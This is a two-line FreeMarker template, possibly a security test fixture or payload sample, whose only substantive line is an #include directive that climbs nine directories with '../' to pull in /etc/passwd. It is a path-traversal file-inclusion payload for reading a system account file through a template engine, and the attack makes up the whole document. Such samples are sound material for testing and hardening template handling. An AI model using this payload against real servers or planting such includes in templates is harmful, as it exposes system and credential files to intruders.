<#ftl output_format="HTML">
<#include "../../../../../../../../../etc/passwd">
